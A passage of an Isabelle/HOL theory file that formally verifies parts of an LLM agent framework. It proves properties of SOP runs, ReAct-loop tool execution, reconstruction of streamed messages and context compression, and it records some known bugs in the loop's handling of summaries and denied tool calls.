  "es_log (exec_run (ex_executor\<lparr>ex_stopOnError := False\<rparr>) ex_begin
     [AMain, AStart ''a'' 1, AEnd ''a'' 2 (\<lambda>_. False) (\<lambda>_. Inl ''no''), AMain, AStart ''b'' 3])
   = [(''a'', []), (''b'', [])]"
  by code_simp

section \<open>Standard operating procedures\<close>


lemma demo_engine_new: "NewSopEngine (Some demo_sop) None = Inr demo_engine"
  by code_simp

lemma demo_handover_not_blank: "TrimSpace ''done'' \<noteq> []"
  by code_simp

lemma demo_agents_cooperative: "quiet demo_agents \<and> cooperative demo_agents demo_sop"
  using demo_handover_not_blank
  by (auto simp: quiet_def cooperative_def demo_agents_def isParkEvent_def demo_sop_def demo_step_def maxAttempts_def
      less_Suc_eq nth_Cons' split: if_splits)




text \<open>
  C32: When executors answer without being parked or interrupted and hand something
  over, and every verifier accepts at the last attempt at the latest, one ReplyStream call
  completes the whole run, every step with a non-blank submission.
\<close>

theorem cooperative_sop_completes:
  assumes "NewSopEngine (Some p) None = Inr e" and "cooperative ag p"
  shows "\<exists>rs. en_state (SOP_ReplyStream ag uuid now inputs e) = Some rs \<and> RunPhase (Some rs) = PhaseCompleted \<and>
    (\<forall>st \<in> set (rs_Steps rs). ss_HasSubmission st \<and> TrimSpace (ss_Submission st) \<noteq> [])"
  by (rule cooperative_run [OF assms])

theorem cooperative_sop_completes_witness:
  "\<exists>rs. en_state (SOP_ReplyStream demo_agents ''r'' 0 ''in'' demo_engine) = Some rs \<and> RunPhase (Some rs) = PhaseCompleted \<and>
    (\<forall>st \<in> set (rs_Steps rs). ss_HasSubmission st \<and> TrimSpace (ss_Submission st) \<noteq> [])"
  by (rule cooperative_sop_completes [OF demo_engine_new conjunct2 [OF demo_agents_cooperative]])

lemma interrupted_step_is_overtaken:
  "map_option (\<lambda>rs. (map ss_Phase (rs_Steps rs), map ss_Given (rs_Steps rs)))
     (en_state (SOP_ReplyStream interrupting_agents ''r'' 0 ''in'' demo_engine)) =
   Some ([PhasePending, PhaseCompleted], [''in'', ''''])"
  by code_simp

section \<open>The ReAct agent\<close>

lemma blocks_no_error: "blocksRun b evs \<noteq> None \<Longrightarrow> ErrorEvent e \<notin> set evs"
proof (induction evs arbitrary: b)
  case (Cons ev evs)
  then show ?case by (cases b; cases ev) (auto split: if_splits)
qed simp

lemma blocks_usage: "blocksRun b evs \<noteq> None \<Longrightarrow> mg_Usage (fold (AppendEvent parse) evs m) = mg_Usage m"
proof (induction evs arbitrary: b m)
  case (Cons ev evs)
  then obtain b' where "blockStep b ev = Some b'" "blocksRun b' evs \<noteq> None" by (auto split: option.splits)
  moreover have "mg_Usage (AppendEvent parse ev m) = mg_Usage m"
    using \<open>blockStep b ev = Some b'\<close> by (cases b; cases ev) (auto simp: onContent_def)
  ultimately show ?case using Cons(1) by simp
qed simp

lemma lastError_none: "(\<And>e. ErrorEvent e \<notin> set evs) \<Longrightarrow> lastError evs = None"
proof (induction evs rule: rev_induct)
  case (snoc ev evs)
  then show ?case by (cases ev) (auto simp: lastError_def)
qed (simp add: lastError_def)

text \<open>
  C33: After a successful streaming model call a client that only sees the
  events can rebuild the answer: collecting them gives a message with the same thinking and the
  same text, up to the content blocks of the chunk that ended the stream, whose input and output tokens are
  those the model reported; and the events in between open, fill and close text and thinking blocks properly.
\<close>

theorem stream_reconstructs_message:
  assumes "mc_Answer mc = ChatChunks cs" and "runModelStreamInner mc uuid = (evs, Inr msg)"
  shows "\<exists>m body. CollectMessage parse u evs = Inr m \<and>
    GetTextContent msg = GetTextContent m @ textOf (doneContent cs) \<and>
    GetThinkingContent msg = concat (map blockThinking (doneContent cs)) @ GetThinkingContent m \<and>
    map_option tu_Prompt (mg_Usage m) = Some (tu_Prompt (doneUsage cs)) \<and>
    map_option tu_Completion (mg_Usage m) = Some (tu_Completion (doneUsage cs)) \<and>
    ModelCallStart (mc_Name mc) # body = butlast evs \<and> blocksRun NoBlock body = Some NoBlock"
proof -
  obtain cs' body a where *: "mc_Answer mc = ChatChunks cs'"
    and evs: "evs = ModelCallStart (mc_Name mc) # body @ [callEnd (mc_Name mc) (sa_Usage a)]"
    and run: "blocksRun NoBlock body = Some NoBlock"
    and tx: "sa_Text a = concat (map textDelta body)" "sa_Thinking a = concat (map thinkingDelta body)"
    and fin: "sa_Tools a = (case doneChunk cs' of None \<Rightarrow> [] | Some c \<Rightarrow> ck_Content c)"
      "sa_Usage a = (case doneChunk cs' of None \<Rightarrow> None | Some c \<Rightarrow> ck_Usage c)"
    and msg: "msg = (newMsg uuid RoleAssistant (assembleContent a))\<lparr>mg_MetaUsage := sa_Usage a\<rparr>"
    by (rule runModelStreamInner_ok [OF assms(2)])
  have cs: "cs' = cs" using * assms(1) by simp
  have "\<exists>c cc. callEnd (mc_Name mc) (sa_Usage a) =
      ModelCallEnd (mc_Name mc) (tu_Prompt (doneUsage cs)) (tu_Completion (doneUsage cs)) c cc"
    by (cases "doneChunk cs"; cases "sa_Usage a") (use fin(2) cs in \<open>simp_all add: callEnd_def doneUsage_def noUsage_def\<close>)
  then obtain i out c cc where ce: "callEnd (mc_Name mc) (sa_Usage a) = ModelCallEnd (mc_Name mc) i out c cc"
    "i = tu_Prompt (doneUsage cs)" "out = tu_Completion (doneUsage cs)" by blast
  have z: "list_all zeroIndex evs" using blocksRun_zero [OF run] by (simp add: evs ce)
  define m where "m = fold (AppendEvent parse) evs (newMsg u RoleAssistant [])"
  have "\<And>e. ErrorEvent e \<notin> set evs" using blocks_no_error run by (fastforce simp: evs ce)
  then have "CollectMessage parse u evs = Inr m" by (simp add: CollectMessage_def lastError_none m_def)
  moreover have "GetTextContent m = sa_Text a \<and> GetThinkingContent m = sa_Thinking a"
    using collected_text [OF z, of parse u] by (simp add: m_def [symmetric] tx) (simp add: evs ce)
  moreover have "GetTextContent msg = sa_Text a @ textOf (sa_Tools a)"
    "GetThinkingContent msg = concat (map blockThinking (sa_Tools a)) @ sa_Thinking a"
    by (auto simp: msg newMsg_def GetTextContent_def GetThinkingContent_def assembleContent_def textOf_def)
  moreover have "mg_Usage m = Some (addCallUsage i out c cc None)"
    using blocks_usage [of NoBlock body] run by (simp add: m_def evs ce) (simp add: newMsg_def)
  ultimately show ?thesis
    using fin(1) run ce cs
    by (intro exI [of _ m] exI [of _ body]) (simp add: doneContent_def addCallUsage_def Usage_Add_def noUsage_def evs)
qed

lemma demo_call_ok:
  "\<exists>evs msg. runModelStreamInner (demo_call demo_chunks) ''u'' = (evs, Inr msg) \<and> GetTextContent msg = ''ab'' \<and> length evs = 9"
proof -
  define r where "r = runModelStreamInner (demo_call demo_chunks) ''u''"
  have "\<not> isl (snd r) \<and> GetTextContent (projr (snd r)) = ''ab'' \<and> length (fst r) = 9" unfolding r_def by code_simp
  then show ?thesis by (cases r; cases "snd r") (auto simp: r_def [symmetric])
qed

theorem stream_reconstructs_message_witness:
  "\<exists>evs msg. runModelStreamInner (demo_call demo_chunks) ''u'' = (evs, Inr msg) \<and>
    (\<exists>m body. CollectMessage (\<lambda>_. None) ''v'' evs = Inr m \<and>
    GetTextContent msg = GetTextContent m @ textOf (doneContent demo_chunks) \<and>
    GetThinkingContent msg = concat (map blockThinking (doneContent demo_chunks)) @ GetThinkingContent m \<and>
    map_option tu_Prompt (mg_Usage m) = Some (tu_Prompt (doneUsage demo_chunks)) \<and>
    map_option tu_Completion (mg_Usage m) = Some (tu_Completion (doneUsage demo_chunks)) \<and>
    ModelCallStart ''m'' # body = butlast evs \<and> blocksRun NoBlock body = Some NoBlock)"
proof -
  obtain evs msg where r: "runModelStreamInner (demo_call demo_chunks) ''u'' = (evs, Inr msg)" using demo_call_ok by blast
  have c: "mc_Answer (demo_call demo_chunks) = ChatChunks demo_chunks" and n: "mc_Name (demo_call demo_chunks) = ''m''"
    by (simp_all add: demo_call_def)
  from stream_reconstructs_message [OF c r, of "\<lambda>_. None" "''v''"] r show ?thesis unfolding n by blast
qed






lemma demo_turn_runs_the_tool:
  "map (\<lambda>(it, tc). (it, tc_ID tc)) (ra_Executed (replyStreamLoop demo_turn demo_input (bumpActive (demo_agent None)))) = [(0, ''1'')]"
  "length (ra_Prompts (replyStreamLoop demo_turn demo_input (bumpActive (demo_agent None)))) = 2"
  by (fact react_runs)+






text \<open>
  Three ways in which the loop does not do what it means to: the summary that replaced compressed
  messages is gone in the next turn; a resumed turn whose calls are all denied stays suspended; and a call that
  the user denies leaves a call without a result in the history.
\<close>

lemma summary_lost_at_next_turn:
  "map (map GetTextContent) (ra_Prompts (replyStreamLoop (demo_turn\<lparr>tn_Model := \<lambda>_ _. demo_call demo_chunks\<rparr>) demo_input
     ((demo_agent None)\<lparr>ra_Runtime := Some \<lparr>as_ReplyID = ''r'', as_CurIter = 1, as_Messages = [],
        as_CompressedSummary = ''so far'', as_Suspended = None\<rparr>\<rparr>))) = [[''be kind'', ''go'']]"
  by (fact react_runs)

lemma denied_resumption_stays_suspended:
  "map_option as_Suspended (ra_Runtime (replyStreamLoop (demo_turn\<lparr>tn_Answer := \<lambda>_. ConfirmResult []\<rparr>) demo_input
     ((demo_agent None)\<lparr>ra_Runtime := Some \<lparr>as_ReplyID = ''r'', as_CurIter = 1,
        as_Messages = [newMsg ''a'' RoleAssistant [ToolUse (ex_call ''1'' ''make'')]],
        as_CompressedSummary = [], as_Suspended = Some (''require_user_confirm'', ''c'')\<rparr>\<rparr>))) =
   Some (Some (''require_user_confirm'', ''c''))"
  by (fact react_runs)

lemma denied_call_is_unanswered:
  "map (map (\<lambda>m. (callIds m, resultIds m))) (drop 1 (ra_Prompts (replyStreamLoop (demo_turn\<lparr>tn_Model := \<lambda>it _. demo_call
       (if it = 0 then [Some (demo_done [ToolUse (ex_call ''1'' ''make''), ToolUse (ex_call ''2'' ''make'')])] else demo_chunks)\<rparr>)
     demo_input (demo_agent (Some (ex_engine ModeDefault [])))))) =
   [[([], []), ([], []), ([''1'', ''2''], []), ([], [''1''])]]"
  by (fact react_runs)

section \<open>Compressing the context\<close>

text \<open>
  C39: Splitting a tool result for compression loses nothing and makes up nothing:
  both parts carry the call, the error flag and the state of the result, the second one is not
  empty, and their blocks one after the other are those of the result, where only a text may have been cut in
  two.
\<close>

theorem split_keeps_everything:
  assumes "SplitToolResultForCompression count (ToolResult call bs isError st) limit = Inr (kept, Some offloaded)"
  shows "\<exists>reserved rest. kept = ToolResult call reserved isError st \<and> offloaded = ToolResult call rest isError st \<and>
    rest \<noteq> [] \<and> glued (reserved @ rest) = glued bs"
proof -
  obtain r where r: "splitBlocks count bs limit = Inr r"
    and s: "(case r of None \<Rightarrow> (ToolResult call bs isError st, None)
      | Some (reserved, offload) \<Rightarrow> (ToolResult call reserved isError st, Some (ToolResult call offload isError st))) = (kept, Some offloaded)"
    using assms by (cases "splitBlocks count bs limit") auto
  then obtain reserved rest where "r = Some (reserved, rest)" "kept = ToolResult call reserved isError st"
    "offloaded = ToolResult call rest isError st" by (auto split: option.splits prod.splits)
  then show ?thesis using splitBlocks_glued [of count bs limit reserved rest] r by simp
qed

lemma demo_split:
  "SplitToolResultForCompression demo_blocks (ToolResult ''1'' [TextBlock ''ab'', TextBlock ''cdef''] False []) 4 =
     Inr (ToolResult ''1'' [TextBlock ''abcd''] False [], Some (ToolResult ''1'' [TextBlock ''ef''] False []))"
proof -
  have "truncateTextBlockByTokenBudget demo_blocks [TextBlock ''ab''] ''cdef'' 4 = (''cd'', ''ef'')"
    using f64_round_of_int [of 2] f64_round_of_int [of 4] f64_round_dyadic [of 1 1]
    by (simp add: truncateTextBlockByTokenBudget_def demo_blocks_def textOf_def f64_of_def truncRat_def)
  then show ?thesis
    by (simp add: splitBlocks_def demo_blocks_def textOf_def appendTextBlock_def prependTextBlock_def)
qed

theorem split_keeps_everything_witness:
  "\<exists>reserved rest. ToolResult ''1'' [TextBlock ''abcd''] False [] = ToolResult ''1'' reserved False [] \<and>
    ToolResult ''1'' [TextBlock ''ef''] False [] = ToolResult ''1'' rest False [] \<and>
    rest \<noteq> [] \<and> glued (reserved @ rest) = glued [TextBlock ''ab'', TextBlock ''cdef'']"
  by (rule split_keeps_everything [OF demo_split])

text \<open>
  C38: Compressing a memory in which every tool call has its result keeps an end of it: what is taken away
  for the summary consists of whole pairs of calls and results, the messages kept still answer
  all their calls and hold, but for the first one, less than the reserve of tokens when something was taken
  away; the summary changes only then.
\<close>

theorem compression_keeps_pairs:
  assumes "CompressContext env uuid sys input summary mem = Inr (summary', mem')" and "settled mem"
  shows "\<exists>old. mem = old @ mem' \<and> settled old \<and> settled mem' \<and>
    (if old = [] then summary' = summary
     else mem' \<noteq> [] \<longrightarrow> CountMessages (tl mem') < max 1 (keptReserve env))"
proof -
  obtain old where "mem = old @ mem'" "old = [] \<longrightarrow> summary' = summary" "settled old"
    "old \<noteq> [] \<longrightarrow> mem' \<noteq> [] \<longrightarrow> CountMessages (tl mem') < max 1 (keptReserve env)"
    using CompressContext_suffix [OF assms(1)] assms(2) by metis
  then show ?thesis using settled_appendD [of old mem'] assms(2) by (intro exI [of _ old]) auto
qed

lemma demo_scaled: "scaled 64 (Fin (1 / 4)) = 16" "scaled 64 (Fin (1 / 8)) = 8" "scaled 64 (Fin (1 / 2)) = 32"
  using f64_round_of_int [of 64] f64_round_of_int [of 16] f64_round_of_int [of 8] f64_round_of_int [of 32]
  by (simp_all add: scaled_def f64_of_def truncRat_def)

lemma demo_env_simps [simp]:
  "usedConfig demo_env = demo_config" "ce_ContextSize demo_env = 64" "ce_Count demo_env tools = demo_count"
  "ce_Shorten demo_env t = None" "ce_Store demo_env ms = None"
  "cf_TriggerRatio demo_config = Fin (1 / 4)" "cf_ReserveRatio demo_config = Fin (1 / 8)" "cf_CompressionPrompt demo_config = ''sum''"
  "cf_ToolResultLimit demo_config = 0" "cf_SummaryTokenRatio demo_config = Fin (1 / 2)"
  by (simp_all add: usedConfig_def demo_env_def demo_config_def)

lemma demo_replaced: "fold (\<lambda>(k, v) out. ReplaceAll out k v) [(''{task_overview}'', ''a''), (''{current_state}'', ''b''),
   (''{important_discoveries}'', ''c''), (''{next_steps}'', ''d''),
             (''{context_to_preserve}'', ''e'')] ''now: {current_state}'' = ''now: b''" by code_simp
lemma demo_summary: "FormatCompressionSummary (ce_Order demo_env) demo_config
    \<lparr>su_TaskOverview = ''a'', su_CurrentState = ''b'', su_ImportantDiscoveries = ''c'', su_NextSteps = ''d'',
     su_ContextToPreserve = ''e''\<rparr> = ''now: b''"
proof -
  have c: "ce_Order demo_env = (\<lambda>xs. xs)" "cf_SummaryTemplate demo_config = ''now: {current_state}''"
    by (simp_all add: demo_env_def demo_config_def)
  show ?thesis unfolding FormatCompressionSummary_def c CompressionSummary.simps
    using demo_replaced by simp
qed

lemma demo_compression:
  "CompressContext demo_env (\<lambda>u. u) ''sys'' (demo_text RoleUser ''hello'') [] demo_memory =
     Inr (''now: b'', [demo_text RoleAssistant ''an answer''])"
proof -
  have split: "contextSplit 8 demo_memory = \<lparr>cc_MessagesToCompact = take 3 demo_memory, cc_MessagesToKeep = drop 3 demo_memory,
      cc_TotalTokens = 5, cc_Threshold = 0, cc_IsValid = True\<rparr>"
    by code_simp
  have mem: "drop 3 demo_memory = [demo_text RoleAssistant ''an answer'']" "take 3 demo_memory \<noteq> []" "demo_memory \<noteq> []"
    by (simp_all add: demo_memory_def)
  have size: "demo_count (promptHistory (\<lambda>u. u) ''sys'' [] demo_memory (demo_text RoleUser ''hello'')) = Inr 32"
    by code_simp
  have run: "ce_Run demo_env 0 t = Inr \<lparr>su_TaskOverview = ''a'', su_CurrentState = ''b'', su_ImportantDiscoveries = ''c'',
      su_NextSteps = ''d'', su_ContextToPreserve = ''e''\<rparr>" for t
    by (simp add: demo_env_def)
  have "generateCompressionSummary demo_env 64 ''sys'' [] (take 3 demo_memory) = Inr ''now: b''"
    by (simp add: generateCompressionSummary_def Let_def run demo_summary demo_count_def)
  then show ?thesis
    by (simp add: CompressContext_def Let_def ResolveContextSize_def demo_scaled split mem size renewSummary_def
        maybeMetaCompressSummary_def maybeOffloadCompressedContext_def)
qed

theorem compression_keeps_pairs_witness:
  "\<exists>old. demo_memory = old @ [demo_text RoleAssistant ''an answer''] \<and> settled old \<and> settled [demo_text RoleAssistant ''an answer''] \<and>
    (if old = [] then ''now: b'' = [] else [demo_text RoleAssistant ''an answer''] \<noteq> [] \<longrightarrow>
       CountMessages (tl [demo_text RoleAssistant ''an answer'']) < max 1 (keptReserve demo_env))"
proof (rule compression_keeps_pairs [OF demo_compression])
  show "settled demo_memory" using splitRespects_iff [of demo_memory 4] by code_simp
qed

section \<open>The model router\<close>

text \<open>A call at an instant whose primary answers with \<open>x\<close>.\<close>


end
